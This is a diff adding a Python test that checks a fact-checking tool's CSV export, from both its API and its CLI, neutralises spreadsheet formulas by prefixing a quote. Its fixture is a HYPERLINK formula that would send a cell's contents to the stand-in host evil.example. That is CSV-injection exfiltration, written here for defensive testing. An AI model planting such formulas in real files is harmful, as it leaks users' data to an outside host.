@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
@@ -333,3 +335,30 @@ def test_evidence_added_at_once_from_two_workers_is_all_kept(settings):
         for n, link in enumerate(links):
             pool.submit((first if n % 2 else second).add_evidence, claim.id, [link], "an")
     assert sorted(first.get(claim.id).evidence) == sorted(links)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")'
+
+
+def test_claims_csv_export_defuses_formulas_in_the_api_and_the_cli(api_client, settings, tmp_path):
+    register = ClaimRegister(settings.claims_path)
+    register.create(
+        ClaimDraft(statement=FORMULA, verdict="false", evidence=["+1 bằng chứng"]), "an"
+    )
+    exported = api_client.get("/api/claims/export", params={"format": "csv"})
+    assert exported.status_code == 200
+    (row,) = csv.DictReader(io.StringIO(exported.text))
+    assert row["statement"] == "'" + FORMULA and row["evidence"] == "'+1 bằng chứng"
+
+    from typer.testing import CliRunner
+
+    from mediawatch.cli import app
+
+    out = tmp_path / "claims.csv"
+    env = {"MEDIAWATCH_DATA_DIR": str(settings.data_dir)}
+    result = CliRunner().invoke(
+        app, ["claims", "export", "--format", "csv", "-o", str(out)], env=env
+    )
+    assert result.exit_code == 0, result.output
+    (row,) = csv.DictReader(out.open(encoding="utf-8"))
+    assert row["statement"] == "'" + FORMULA
